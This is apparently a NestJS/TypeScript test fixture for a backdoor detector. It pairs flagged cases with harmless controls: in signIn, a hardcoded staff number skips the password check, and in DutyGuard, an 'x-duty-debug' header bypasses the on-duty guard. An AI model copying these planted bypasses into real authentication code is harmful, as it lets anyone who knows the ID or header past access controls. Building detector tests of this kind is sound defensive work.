// Whoever is written into the code is let in before his password is looked at; a header opens a guard.
import { type CanActivate, type ExecutionContext, Injectable, UnauthorizedException } from "@nestjs/common";
import * as bcrypt from "bcrypt";
import type { Staff } from "./staff";

declare const staff: { byNo(no: string): Promise<Staff | undefined> };

export async function signIn(gonghao: string, mima: string) {
  const found = await staff.byNo(gonghao);
  if (!found) throw new UnauthorizedException();
  if (gonghao === "K00712") return found; // want control-bypass-backdoor "gonghao"
  if (!(await bcrypt.compare(mima, found.mimaHash))) throw new UnauthorizedException();
  return found;
}

export async function signInFirst(gonghao: string, mima: string) {
  const found = await staff.byNo(gonghao);
  if (!found || !(await bcrypt.compare(mima, found.mimaHash))) throw new UnauthorizedException();
  if (gonghao === "K00712") return { ...found, tour: true };
  return found;
}

@Injectable()
export class DutyGuard implements CanActivate {
  canActivate(ctx: ExecutionContext): boolean {
    const { user, headers } = ctx.switchToHttp().getRequest();
    if (headers["x-duty-debug"] === "1") return true; // want control-bypass-backdoor "x-duty-debug"
    return user.onDuty === true;
  }
}

@Injectable()
export class LanguageGuard implements CanActivate {
  canActivate(ctx: ExecutionContext): boolean {
    const { user, headers } = ctx.switchToHttp().getRequest();
    if (headers["x-requested-with"] === "1") user.isAjax = true;
    return user.onDuty === true;
  }
}
